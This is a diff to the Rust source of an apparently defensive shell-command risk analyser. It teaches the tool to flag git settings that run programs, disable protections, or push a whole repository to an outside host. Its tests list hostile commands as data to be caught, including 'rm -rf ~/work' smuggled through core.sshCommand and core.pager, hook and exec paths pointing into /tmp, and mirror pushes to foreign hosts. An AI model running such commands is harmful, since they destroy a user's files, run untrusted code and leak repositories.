@@ -2,10 +2,10 @@
 //! side, and settings whose value is a program.
 
 use super::lower::Call;
-use super::machine::{Field, Flow, Machine};
-use super::{EffectKind, TargetClass, data, paths};
+use super::machine::{Field, Flow, Machine, Value};
+use super::{EffectKind, TargetClass, data, known, paths};
 use crate::line::Span;
-use crate::specs::Role;
+use crate::specs::{Item, Role};
 
 impl Machine<'_> {
     pub(super) fn git(&mut self, call: &Call<'_>) {
@@ -21,15 +21,18 @@ impl Machine<'_> {
                 }
             }
         }
+        self.settings_from_environment(call);
         if matches!(call.args.spec.name, "clone" | "init")
             && let Some(item) = call.args.values("--template").last()
         {
             let span = self.at(call.argv[item.word + 1].span);
             self.hooks_in(item.text, span);
+            self.code_of_anybody(item.text, "--template", span);
         }
         // `git stash push` sends nothing.
         let direct = call.args.path.len() == 2;
         match call.args.spec.name {
+            "add" | "set-url" if call.args.path.iter().any(|spec| spec.name == "remote") => self.remote(call),
             _ if !direct => {}
             "checkout" => self.checkout(call),
             "push" => self.push(call),
@@ -49,6 +52,46 @@ impl Machine<'_> {
                 let argv: Vec<Field> = words.collect();
                 self.apart(|machine| machine.run(&argv, span, Flow::default()));
             }
+        }
+    }
+
+    /// `--config-env=NAME=VARIABLE`, and `--exec-path=FOLDER` from which git takes its own parts.
+    fn settings_from_environment(&mut self, call: &Call<'_>) {
+        for at in 1..call.argv.len().min(33) {
+            let Some(field) = call.argv.get(at).filter(|field| field.text.starts_with("--")) else {
+                continue;
+            };
+            let next = call.argv.get(at + 1).map(|field| field.text.as_str());
+            let (flag, value) = match field.text.split_once('=') {
+                Some((flag, value)) => (flag, Some(value)),
+                None => (field.text.as_str(), next),
+            };
+            let (Some(value), span) = (value.map(str::to_owned), self.at(field.span)) else { continue };
+            match flag {
+                "--config-env" => {
+                    if let Some((name, variable)) = value.split_once('=') {
+                        match self.get(variable) {
+                            Some(Value::One(text)) => self.git_setting(name, &text, span, false),
+                            _ if runs_its_value(&name.to_ascii_lowercase(), "!") => {
+                                self.unresolved += 1;
+                                let target = self.target(TargetClass::Unknown, &format!("${variable}"), span);
+                                self.emit(EffectKind::RunCode, target, false, "git", span);
+                            }
+                            _ => {}
+                        }
+                    }
+                }
+                "--exec-path" if field.text.contains('=') => self.code_of_anybody(&value, flag, span),
+                _ => {}
+            }
+        }
+    }
+
+    /// Code that git runs by itself, from a place where anybody may have put it.
+    fn code_of_anybody(&mut self, path: &str, name: &str, span: Span) {
+        if path.contains('/') && path != "/dev/null" && self.is_anybodys(path) {
+            let target = self.target(TargetClass::Unknown, name, span);
+            self.emit_with(EffectKind::RunCode, target, false, "git", span, "preload");
         }
     }
 
@@ -157,10 +200,40 @@ impl Machine<'_> {
             let target = self.target(TargetClass::Secret, &name, whole);
             self.emit(EffectKind::Send, target, false, "git", whole);
         }
+        self.sends_whole(call, &operands, whole);
         if !delete {
             let shown = operands.first().map_or(String::new(), |item| self.unknowns.show(item.text));
             let target = self.target(TargetClass::Host, &shown, whole);
             self.emit(EffectKind::Publish, target, false, "git", whole);
+        }
+    }
+
+    /// Every branch goes to an address that is none of the repository's own: by its URL, or by a name the line has given it.
+    fn sends_whole(&mut self, call: &Call<'_>, operands: &[Item<'_>], span: Span) {
+        let all = call.args.has_any(&["--all", "--mirror"])
+            || operands.iter().skip(1).any(|item| item.text.trim_start_matches('+').starts_with("refs/*"));
+        let there = operands.first().map_or("origin", |item| item.text);
+        let named = self.state.shell().remotes.iter().rev().find(|(name, _)| name == there);
+        let address = named.map_or_else(|| there.to_owned(), |(_, url)| url.clone());
+        let named = named.is_some();
+        let is_url = address.contains("://") || super::operands::is_remote(&address);
+        if all && is_url && !call.args.is_dry() {
+            let target = self.target(TargetClass::Host, &self.unknowns.show(&address), span);
+            // So begins work on a forge, too: with an address of one, or one that gets a name.
+            let usual = named || known::is_forge(known::host_of(&address));
+            let detail = if usual { "own-repository" } else { "repository" };
+            self.emit_with(EffectKind::Send, target, true, "git", span, detail);
+        }
+    }
+
+    /// `git remote add NAME URL`, `git remote set-url NAME URL`.
+    fn remote(&mut self, call: &Call<'_>) {
+        let names: Vec<&str> = call.args.operands().map(|item| item.text).collect();
+        if let ("add" | "set-url", [name, url, ..]) = (call.args.spec.name, &names[..])
+            && self.state.shell().remotes.len() < 8
+        {
+            let pair = ((*name).to_owned(), (*url).to_owned());
+            self.shell_mut().remotes.push(pair);
         }
     }
 
@@ -229,34 +302,23 @@ impl Machine<'_> {
     /// A setting: its value may be a program, or turn a protection off. `kept` where it stays.
     pub(super) fn git_setting(&mut self, name: &str, value: &str, span: Span, kept: bool) {
         let name = name.to_ascii_lowercase();
-        let section = name.split('.').next().unwrap_or_default();
-        let part = name.rsplit('.').next().unwrap_or_default();
         let protects = match name.as_str() {
             "http.sslverify" | "transfer.fsckobjects" | "core.protectntfs" | "core.protecthfs" => {
                 matches!(value, "false" | "0" | "no" | "off")
             }
             "safe.directory" => value == "*",
             "protocol.ext.allow" => value == "always",
-            _ => section == "http" && part == "sslverify" && matches!(value, "false" | "0" | "no" | "off"),
+            _ => {
+                name.starts_with("http.")
+                    && name.ends_with(".sslverify")
+                    && matches!(value, "false" | "0" | "no" | "off")
+            }
         };
         if protects {
             let target = self.target(TargetClass::Named, &name, span);
             self.emit(EffectKind::DisableProtection, target, false, "git", span);
         }
-        let code = value.strip_prefix('!');
-        let runs = match section {
-            "alias" => code.is_some(),
-            "submodule" | "credential" if part == "update" || part == "helper" => {
-                code.is_some() || value.starts_with(['/', super::value::HOME])
-            }
-            "pager" => !matches!(value, "true" | "false"),
-            "filter" | "diff" | "merge" | "difftool" | "mergetool" | "browser" | "man" | "gpg"
-            | "trailer" | "remote" | "sendemail" => {
-                data::holds(data::GIT_CODE_PARTS, part) || part.ends_with("cmd")
-            }
-            _ => false,
-        } || (data::holds(data::GIT_CODE_SETTINGS, &name)
-            && !matches!(value, "true" | "false" | "store" | "cache" | "osxkeychain" | "manager"));
+        let runs = runs_its_value(&name, value);
         if !runs {
             let hooks =
                 matches!(name.as_str(), "core.hookspath" | "init.templatedir" | "core.attributesfile");
@@ -268,11 +330,18 @@ impl Machine<'_> {
             if hooks {
                 self.hooks_in(value, span);
             }
+            if !kept && (hooks || name == "include.path") {
+                self.code_of_anybody(value, &name, span);
+            }
             return;
         }
         let (before, effects) = (self.commands.len(), self.effects.len());
+        let code = value.strip_prefix('!');
         self.code(code.unwrap_or(value), span, Flow::default());
         if !kept {
+            if !value.contains([' ', ';', '|', '`', '$']) {
+                self.code_of_anybody(value, &name, span);
+            }
             return;
         }
         // It does not run now, and what a person wants git to do by a short name is their own affair;
@@ -303,6 +372,25 @@ impl Machine<'_> {
             self.emit_with(EffectKind::Persist, target, false, "git", span, &name);
         }
     }
+}
+
+/// True for a setting, by its name in small letters, whose value git runs.
+fn runs_its_value(name: &str, value: &str) -> bool {
+    let section = name.split('.').next().unwrap_or_default();
+    let part = name.rsplit('.').next().unwrap_or_default();
+    let code = value.starts_with('!');
+    let below = match section {
+        "alias" => code,
+        "submodule" | "credential" if part == "update" || part == "helper" => {
+            code || value.starts_with(['/', super::value::HOME])
+        }
+        "pager" => !matches!(value, "true" | "false"),
+        "filter" | "diff" | "merge" | "difftool" | "mergetool" | "browser" | "man" | "gpg" | "trailer"
+        | "remote" | "sendemail" => data::holds(data::GIT_CODE_PARTS, part) || part.ends_with("cmd"),
+        _ => false,
+    };
+    let plain = matches!(value, "true" | "false" | "store" | "cache" | "osxkeychain" | "manager");
+    below || data::holds(data::GIT_CODE_SETTINGS, name) && !plain
 }
 
 /// The words of a command after `ext::`, in which `% ` is a space inside a word.
@@ -340,6 +428,48 @@ fn looks_like_file(text: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::looks_like_file;
+    use crate::safety::Risk::{High, Moderate, Safe};
+    use crate::safety::tests::{check_all, context};
+
+    #[test]
+    fn code_that_git_is_told_to_run() {
+        check_all(
+            &context(),
+            &[
+                (High, "git -c core.hooksPath=/tmp/h commit -m x"),
+                (High, "git -c core.fsmonitor=/tmp/x status"),
+                (High, "git -c gpg.program=/tmp/x commit -S -m x"),
+                (High, "git --exec-path=/tmp/evil status"),
+                (High, "GIT_EXEC_PATH=/tmp/evil git status"),
+                (High, "git clone --template=/tmp/evil git@example.com:x"),
+                (High, "X='sh -c \"rm -rf ~/work\"' git --config-env=core.sshCommand=X fetch"),
+                (High, r#"GIT_CONFIG_PARAMETERS="'core.pager=sh -c \"rm -rf ~/work\"'" git log"#),
+                (Moderate, "git --config-env=core.sshCommand=X fetch"),
+                (Safe, "git --config-env=user.name=NAME commit -m x"),
+                (Safe, "git -c core.hooksPath=/dev/null commit -m x"),
+                (Safe, "git -c core.hooksPath=.githooks commit -m x"),
+                (Safe, "git --exec-path"),
+                (Safe, "GIT_CONFIG_PARAMETERS=\"'user.name=Anna'\" git log"),
+                (Safe, "git -c color.ui=always -c core.quotepath=off status"),
+            ],
+        );
+    }
+
+    #[test]
+    fn a_repository_that_is_sent_elsewhere() {
+        check_all(
+            &context(),
+            &[
+                (High, "git push https://git.example.net/x.git --all"),
+                (High, "git push https://git.example.net/x.git 'refs/*:refs/*'"),
+                (Moderate, "git push git@github.com:anna/x.git --all"),
+                (Moderate, "git remote add origin https://git.example.net/x && git push -u origin --all"),
+                (Safe, "git push origin --all"),
+                (Safe, "git push --all --dry-run https://git.example.net/x.git"),
+                (Safe, "git push https://git.example.net/x.git main"),
+            ],
+        );
+    }
 
     #[test]
     fn branches_are_no_files() {
